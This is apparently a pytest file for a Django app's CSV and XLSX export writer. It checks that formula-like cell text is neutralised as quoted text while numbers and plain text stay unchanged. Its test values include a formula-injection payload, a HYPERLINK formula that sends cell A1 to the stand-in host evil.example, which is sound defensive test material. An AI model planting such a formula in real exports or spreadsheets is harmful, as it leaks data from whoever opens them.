"""The one writer of every download: text that a spreadsheet would run as a formula arrives as text, in CSV (with
the quote prefix OWASP recommends) and in XLSX (a string cell showing exactly the text); numbers stay numbers."""

import csv
import io

import openpyxl
import pytest
from django.utils import translation

from core import exports

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
RISKY = [EVIL, "+1+2", "-2+3", "@SUM(A1:A2)", "\tTab", "\r=1+1"]
HEADERS = ["id", "title", "score"]


def csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def xlsx_cells(response):
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(row) for row in book.worksheets[0].iter_rows()]


@pytest.mark.parametrize("title", RISKY)
def test_a_formula_like_title_arrives_in_the_csv_as_quoted_text(title):
    response = exports.csv_response(HEADERS, [[1, title, 5]], "inovasi")

    assert csv_rows(response) == [HEADERS, ["1", f"'{title}", "5"]]


@pytest.mark.parametrize("title", RISKY)
def test_a_formula_like_title_arrives_in_the_xlsx_as_a_string_cell_with_its_exact_text(title):
    response = exports.xlsx_response(HEADERS, [[1, title, 5]], "inovasi", sheet="Inovasi")

    header, row = xlsx_cells(response)
    assert [c.value for c in header] == HEADERS
    # Exactly: openpyxl writes through lxml (installed with python-docx), which keeps a carriage return as &#13;.
    assert (row[1].data_type, row[1].value) == ("s", title)
    assert row[1].quotePrefix is True


def test_numbers_stay_numbers_and_plain_text_is_left_alone():
    row = [-7, 2.5, "-12.50", "Posyandu = sehat", "", "a-b"]

    written_csv = csv_rows(exports.csv_response(["a", "b", "c", "d", "e", "f"], [row], "x"))
    written_xlsx = xlsx_cells(exports.xlsx_response(["a", "b", "c", "d", "e", "f"], [row], "x", sheet="x"))[1]

    assert written_csv[1] == ["-7", "2.5", "-12.50", "Posyandu = sehat", "", "a-b"]
    assert [(c.data_type, c.value) for c in written_xlsx] == [
        ("n", -7),
        ("n", 2.5),
        ("s", "-12.50"),
        ("s", "Posyandu = sehat"),
        ("inlineStr", None),  # an empty text: an empty cell, kept so that every row has every column
        ("s", "a-b"),
    ]


@pytest.mark.parametrize(
    ("value", "risky"),
    [(EVIL, True), ("-1", False), ("+3.25", False), ("-1+1", True), ("@x", True), ("x=1", False), (-5, False)],
)
def test_what_counts_as_formula_like(value, risky):
    assert exports.is_formula_like(value) is risky


def test_an_xlsx_with_a_title_has_typed_cells_a_frozen_header_and_widths():
    import datetime
    from decimal import Decimal

    row = [datetime.date(2026, 3, 1), Decimal("-61.50"), 7, "=1+1"]
    response = exports.xlsx_response(
        ["tanggal", "nilai", "jumlah", "judul"], [row], "x", sheet="x", title="Judul tabel", widths=[12, 10, 8, 40]
    )

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    title, header, cells = (list(r) for r in sheet.iter_rows())
    assert (title[0].value, [c.value for c in header], sheet.freeze_panes) == (
        "Judul tabel",
        ["tanggal", "nilai", "jumlah", "judul"],
        "A3",
    )
    assert [(c.data_type, c.value) for c in cells] == [
        ("d", datetime.datetime(2026, 3, 1)),
        ("n", -61.5),
        ("n", 7),
        ("s", "=1+1"),
    ]
    assert (cells[0].number_format, sheet.column_dimensions["D"].width) == ("DD-MM-YYYY", 40)


def test_a_column_reads_stored_slugs_as_labels_and_nothing_as_empty():
    column = exports.Column("Status", "state", labels={"at_risk": "Berisiko"})
    flag = exports.Column("Aktif", "active", labels=exports.YES_NO)

    assert [column.value(v) for v in ("at_risk", "other", None, "")] == ["Berisiko", "other", None, None]
    with translation.override("id"):
        assert [flag.value(v) for v in (True, False)] == ["Ya", "Tidak"]
    with translation.override("en"):
        assert [flag.value(v) for v in (True, False)] == ["Yes", "No"]
